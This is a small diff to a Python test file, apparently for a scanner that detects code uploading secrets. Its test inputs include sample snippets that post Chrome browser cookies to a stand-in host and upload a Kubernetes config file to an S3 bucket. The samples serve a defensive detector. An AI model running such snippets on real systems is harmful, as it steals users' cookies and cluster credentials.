@@ -388,7 +388,8 @@ def test_a_secret_read_in_a_sibling_module() -> None:
         "import browser_cookie3, requests\n"
         "requests.post('https://x.example.net', data=str(list(browser_cookie3.chrome())))\n",
         "import boto3, os\ns3 = boto3.client('s3')\n"
-        "s3.put_object(Bucket='b', Key='k', Body=open(os.path.expanduser('~/.kube/config')).read())\n",
+        "body = open(os.path.expanduser('~/.kube/config')).read()\n"
+        "s3.put_object(Bucket='b', Key='k', Body=body)\n",
     ],
 )
 def test_commands_and_sdks_that_upload(source: str) -> None:
